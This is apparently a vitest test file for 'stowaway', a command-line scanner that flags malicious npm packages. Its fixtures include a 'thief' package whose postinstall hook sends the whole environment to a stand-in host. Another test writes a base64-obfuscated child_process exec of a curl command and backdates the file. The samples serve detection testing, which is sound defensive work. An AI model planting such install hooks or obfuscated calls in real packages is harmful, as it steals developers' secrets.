import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { PageData } from '../src/report/page/data.js';

/** The command as it is installed: built, with workers. `npm ci` and `npm run check` build it. */
const bin = fileURLToPath(new URL('../dist/src/bin.js', import.meta.url));
const run = promisify(execFile);
const home = mkdtempSync(join(tmpdir(), 'stowaway-bin-'));
const project = join(home, 'project');
const cache = join(home, 'cache');

beforeAll(() => {
  const files = {
    'package.json': '{"name":"app"}',
    'node_modules/thief/package.json': '{"name":"thief","version":"1.0.0","scripts":{"postinstall":"node x.js"}}',
    'node_modules/thief/x.js': `require('https').request('https://collect.invalid').end(JSON.stringify(process.env));`,
    'node_modules/good/package.json': '{"name":"good","version":"1.0.0"}',
    'node_modules/good/index.js': 'module.exports = 1;',
  };
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(project, path)), { recursive: true });
    writeFileSync(join(project, path), text);
  }
  symlinkSync(tmpdir(), join(project, 'node_modules/away'));
});
afterAll(() => rmSync(home, { recursive: true, force: true }));

const command = (...args: readonly string[]) => commandIn(project, ...args);

const commandIn = (cwd: string, ...args: readonly string[]) =>
  run(process.execPath, [bin, ...args], { cwd, env: { ...process.env, NO_COLOR: '1', STOWAWAY_CACHE: cache } }).then(
    ({ stdout, stderr }) => ({ code: 0, stdout, stderr }),
    ({ code, stdout, stderr }) => ({ code: code as number, stdout: stdout as string, stderr: stderr as string }),
  );

test('a project is scanned by workers, the worst told first, and the exit code says so', async () => {
  const { code, stdout, stderr } = await command(project, '--jobs', '2');
  expect(code).toBe(1);
  expect(stdout).toMatch(/^Scanned 2 packages/);
  expect(stdout).toContain('Sends the whole environment through https.request');
  expect(stderr).toMatch(/^stowaway: not scanned: .*away: a link out of the tree, not followed\n$/);
});

test('a project that one does not work in is scanned with its own code', async () => {
  const { stdout } = await commandIn(home, project, '--format', 'json', '--quiet');
  const paths = (JSON.parse(stdout).packages as { package: { path: string } }[]).map(({ package: { path } }) => path);
  expect(paths.sort()).toEqual(['.', 'node_modules/good', 'node_modules/thief']);
});

test('one worker or two, the result is the same to the byte', async () => {
  const [one, two] = await Promise.all(
    ['1', '2'].map(jobs => command(project, '--jobs', jobs, '--no-cache', '--format', 'json', '--quiet')),
  );
  expect(one?.stdout).toBe(two?.stdout);
  expect(JSON.parse(one?.stdout ?? '').packages).toHaveLength(2);
});

test('with a cache, cold or warm, the result is the same to the byte, and a changed package is seen', async () => {
  const scan = () => command(project, '--format', 'json', '--quiet');
  await command('cache', 'clean');
  const anew = await command(project, '--no-cache', '--format', 'json', '--quiet');
  const [cold, warm] = [await scan(), await scan()];
  expect([cold.stdout, warm.stdout]).toEqual([anew.stdout, anew.stdout]);
  const file = join(project, 'node_modules/good/index.js');
  const { mtime } = statSync(file);
  writeFileSync(file, `require('child_process').exec(atob('Y3VybCBodHRwczovL2MuaW52YWxpZA=='));`);
  // Attackers set times back.
  utimesSync(file, mtime, mtime);
  const changed = await scan();
  writeFileSync(file, 'module.exports = 1;');
  expect(JSON.parse(changed.stdout).packages).not.toEqual(JSON.parse(warm.stdout).packages);
  expect((await scan()).stdout).toBe(anew.stdout);
});

test('a cache full of rubbish is no cache', async () => {
  const anew = await command(project, '--no-cache', '--format', 'json', '--quiet');
  await command(project, '--format', 'json', '--quiet');
  for (const entry of readdirSync(cache, { recursive: true, withFileTypes: true }))
    if (entry.isFile()) writeFileSync(join(entry.parentPath, entry.name), 'rubbish');
  expect((await command(project, '--format', 'json', '--quiet')).stdout).toBe(anew.stdout);
});

test('an HTML report has the texts of the packages to look at, and is the same to the byte again', async () => {
  const [first, second] = await Promise.all([1, 2].map(() => command(project, '--format', 'html', '--quiet')));
  const data = first?.stdout.split('id="data">')[1]?.split('</script>')[0] ?? '';
  const { packages } = JSON.parse(data) as PageData;
  expect(packages.map(({ name, texts }) => [name, texts?.map(({ label }) => label)])).toEqual([
    ['thief', expect.arrayContaining(['x.js'])],
    ['good', undefined],
  ]);
  expect(first?.stdout).toBe(second?.stdout);
});

test('what cannot be done is said in one line', async () => {
  expect(await command(join(project, 'nowhere'))).toMatchObject({
    code: 2,
    stdout: '',
    stderr: expect.stringMatching(/^stowaway: [^\n]+\n$/),
  });
  expect(await command('--no-such-flag')).toMatchObject({
    code: 2,
    stdout: '',
    stderr: expect.stringMatching(/^stowaway: [^\n]+\n$/),
  });
});
